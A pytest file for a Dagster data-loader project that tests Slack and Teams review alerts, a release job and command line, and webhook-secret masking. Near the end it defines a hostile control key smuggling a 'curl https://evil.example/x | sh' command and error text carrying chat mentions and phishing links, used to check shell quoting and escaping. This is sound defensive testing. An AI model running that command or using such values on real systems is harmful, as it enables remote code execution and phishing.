"""Somebody is told, and can release a reviewed row without hand-written SQL.

Slack (slack_sdk's webhook client) and Teams (dagster-msteams) post to a local HTTP server that
records what it receives.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from helpers import control_row, evaluate, failed_row, lakebase_for
from psycopg.conninfo import conninfo_to_dict

from dagsters.alerts import RELEASE_JOB, Alert, Notifier
from dagsters.jobs.release_review_job import release_review_job
from dagsters.local.cli import main as cli_main
from dagsters.resources.lakebase import LakebaseResource
from dagsters.sensors.dataloader_failed_monitor import build_failed_monitor
from dagsters.sensors.dataloader_master_sensor import build_master_sensor
from dagsters.settings import Settings, load_settings

DAGSTER_RUN = "https://acme.dagster.cloud/prod/runs/run-123"
DATABRICKS_RUN = "https://adb-1.azuredatabricks.net/?o=1#job/7/run/4242"


class Webhook:
    """A local HTTP server standing in for Slack's and Teams' incoming webhooks."""

    def __init__(self, status: int = 200):
        self.posts: list[tuple[str, dict]] = []
        self.status = status
        hook = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                hook.posts.append((self.path, json.loads(body or b"{}")))
                self.send_response(hook.status)
                self.end_headers()
                self.wfile.write(b"ok" if hook.status == 200 else b"down")

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}{path}"

    def text(self, path: str) -> str:
        return "\n".join(json.dumps(body) for p, body in self.posts if p == path)


@pytest.fixture
def webhook() -> Iterator[Webhook]:
    hook = Webhook()
    yield hook
    hook.server.shutdown()


def alerting_settings(webhook: Webhook, **overrides) -> Settings:
    env = {
        "DATALOADER_ALERT_SLACK_WEBHOOK_URL": webhook.url("/slack/T000/B000/secretkey123"),
        "DATALOADER_ALERT_TEAMS_WEBHOOK_URL": webhook.url("/teams/workflows/secretkey456"),
        **overrides,
    }
    return load_settings(env)


def tick(sensor, instance, lakebase: LakebaseResource):
    return evaluate(sensor, instance, {"lakebase": lakebase})


def with_links(db, key: str) -> None:
    db.execute(
        "UPDATE table_control SET last_dagster_run = %s, last_databricks_run = %s"
        " WHERE control_key = %s",
        (DAGSTER_RUN, DATABRICKS_RUN, key),
    )


def test_a_row_sent_to_review_is_announced_on_slack_and_teams(control_db, db, instance, webhook):
    failed_row(db, "erp.invoices", 'relation "billing.invoices" does not exist', retry_count=3)
    with_links(db, "erp.invoices")

    tick(build_failed_monitor(alerting_settings(webhook)), instance, lakebase_for(control_db))

    assert control_row(db, "erp.invoices")["needs_review"] is True
    slack = webhook.text("/slack/T000/B000/secretkey123")
    teams = webhook.text("/teams/workflows/secretkey456")
    for text in (slack, teams):
        assert "a table needs review" in text
        assert "erp.invoices" in text
        assert "Failed again after 3 of 3 automatic retries" in text  # the cause
        assert DAGSTER_RUN in text
        assert DATABRICKS_RUN.replace("#", "#") in text
        assert RELEASE_JOB in text and "control_key: erp.invoices" in text
        assert "dataloader release erp.invoices" in text
    teams_body = next(body for p, body in webhook.posts if p.startswith("/teams"))
    assert teams_body["attachments"][0]["contentType"] == "application/vnd.microsoft.card.adaptive"


def test_a_table_that_failed_n_times_is_announced_once(control_db, db, instance, webhook):
    failed_row(db, "erp.second", "connection reset by peer", retry_count=1)  # 2nd failure
    failed_row(db, "erp.first", "connection reset by peer", retry_count=0)  # 1st failure
    settings = alerting_settings(webhook, DATALOADER_ALERT_AFTER_FAILURES="2")

    tick(build_failed_monitor(settings), instance, lakebase_for(control_db))

    slack = webhook.text("/slack/T000/B000/secretkey123")
    assert "a table failed 2 times" in slack
    assert "erp.second" in slack
    assert "erp.first" not in slack
    assert len([p for p, _ in webhook.posts if p.startswith("/slack")]) == 1


def test_a_failing_sensor_tick_is_announced_and_still_fails(source_db, instance, webhook):
    # A database nobody migrated: every control-table query fails at once.
    with pytest.raises(Exception, match="table_control"):
        tick(build_master_sensor(alerting_settings(webhook)), instance, lakebase_for(source_db))
    slack = webhook.text("/slack/T000/B000/secretkey123")
    assert "sensor master_sensor failed" in slack
    assert "table_control" in slack


def test_an_unreachable_webhook_never_breaks_the_sender_and_its_url_never_shows(caplog):
    down = Webhook(status=500)
    try:
        url = down.url("/slack/T000/B000/secretkey789")
        errors = Notifier(slack_webhook_url=url).send(Alert(title="t", cause="c"))
    finally:
        down.server.shutdown()
    assert len(errors) == 1 and "HTTP 500" in errors[0]
    assert "secretkey789" not in errors[0]
    assert "secretkey789" not in caplog.text
    settings = alerting_settings(down)
    assert settings.alert_slack_webhook_url in settings.secrets  # masked like any secret
    assert "secretkey" not in repr(settings)


def test_release_job_makes_a_reviewed_row_ready_with_its_budget_restored(control_db, db, instance):
    failed_row(db, "erp.invoices", "relation does not exist", retry_count=3)
    db.execute("UPDATE table_control SET needs_review = true")
    lakebase = lakebase_for(control_db)

    result = release_review_job.execute_in_process(
        run_config={"ops": {"release_review_op": {"config": {"control_key": "erp.invoices"}}}},
        resources={"lakebase": lakebase},
        instance=instance,
        tags={"dagster/user": "ana@example.com"},
    )

    assert result.success
    row = control_row(db, "erp.invoices")
    assert (row["last_status"], row["needs_review"], row["retry_count"]) == (None, False, 0)
    assert row["last_message"].startswith("[Released after review by ana@example.com] ")
    claimed = tick(build_master_sensor(Settings()), instance, lakebase)
    assert [r.partition_key for r in claimed.run_requests] == ["erp.invoices"]

    again = release_review_job.execute_in_process(
        run_config={"ops": {"release_review_op": {"config": {"control_key": "erp.invoices"}}}},
        resources={"lakebase": lakebase},
        instance=instance,
        raise_on_error=False,
    )
    assert not again.success
    error = again.failure_data_for_node("release_review_op").error
    assert "erp.invoices is Queued, not Failed: nothing to release" in str(error)


def test_release_command_line(control_db, db, monkeypatch, capsys):
    failed_row(db, "erp.invoices", "relation does not exist", retry_count=3)
    db.execute("UPDATE table_control SET needs_review = true")
    parts = conninfo_to_dict(control_db)
    for name, value in {
        "LAKEBASE_HOST": parts["host"],
        "LAKEBASE_PORT": str(parts["port"]),
        "LAKEBASE_DATABASE": parts["dbname"],
        "LAKEBASE_USER": parts["user"],
        "LAKEBASE_SSLMODE": "disable",
    }.items():
        monkeypatch.setenv(name, value)

    assert cli_main(["release", "erp.invoices", "--by", "ana"]) == 0
    assert "erp.invoices released" in capsys.readouterr().out
    assert control_row(db, "erp.invoices")["needs_review"] is False
    assert cli_main(["release", "erp.unknown"]) == 1
    assert "no table_control row with control_key 'erp.unknown'" in capsys.readouterr().err


# Issue 22: a control key and a source's error text are data written by others.
EVIL_KEY = "erp.a; curl https://evil.example/x | sh #"
EVIL_CAUSE = (
    "relation missing <!channel> see <https://evil.example/login|the runbook>"
    " or [the runbook](https://evil.example/login) @here <@U024BE7LH> <at>Lead</at>"
)


def _sent(webhook: Webhook, prefix: str) -> list[str]:
    """Every text field of the bodies posted under ``prefix``, as the chat service parses it."""
    texts: list[str] = []

    def walk(value):
        if isinstance(value, dict):
            for k, v in value.items():
                if k == "text" and isinstance(v, str):
                    texts.append(v)
                else:
                    walk(v)
        elif isinstance(value, list):
            for v in value:
                walk(v)

    for path, body in webhook.posts:
        if path.startswith(prefix):
            walk(body)
    return texts


def test_the_release_command_is_shell_quoted(webhook):
    import shlex

    notifier = Notifier(
        slack_webhook_url=webhook.url("/slack/x"), teams_webhook_url=webhook.url("/teams/x")
    )
    assert notifier.send(Alert(title="t", cause="c", control_key=EVIL_KEY)) == []
    slack = "\n".join(_sent(webhook, "/slack"))
    line = next(line for line in slack.splitlines() if "dataloader release" in line)
    command = line.split("or run: ", 1)[1]
    assert shlex.split(command) == ["dataloader", "release", EVIL_KEY]
    assert "dataloader release 'erp.a; curl https://evil.example/x | sh #'" in slack
    teams = "\n".join(_sent(webhook, "/teams"))
    assert "dataloader release 'erp.a; curl https://evil.example/x | sh #'" in teams


def test_text_from_data_cannot_mention_or_link_in_slack_or_teams(webhook):
    notifier = Notifier(
        slack_webhook_url=webhook.url("/slack/x"), teams_webhook_url=webhook.url("/teams/x")
    )
    alert = Alert(
        title="a table needs review",
        cause=EVIL_CAUSE,
        control_key="erp.<!here>",
        dagster_run="[run](https://evil.example)",
    )
    assert notifier.send(alert) == []
    slack_texts = _sent(webhook, "/slack")
    assert slack_texts  # the fallback text and the blocks
    for text in slack_texts:
        for live in ("<!channel>", "<!here>", "<https://evil", "<@U024BE7LH>", "@here"):
            assert live not in text, (live, text)
    slack = "\n".join(slack_texts)
    assert "&lt;!channel&gt;" in slack and "&lt;@U024BE7LH&gt;" in slack  # shown, not live
    teams = "\n".join(_sent(webhook, "/teams"))
    assert "[the runbook](" not in teams and "\\[the runbook\\]\\(" in teams
    assert "[run](" not in teams and "<at>" not in teams and "@here" not in teams
    assert "\\<\\!channel\\>" in teams or "\\<!channel\\>" in teams
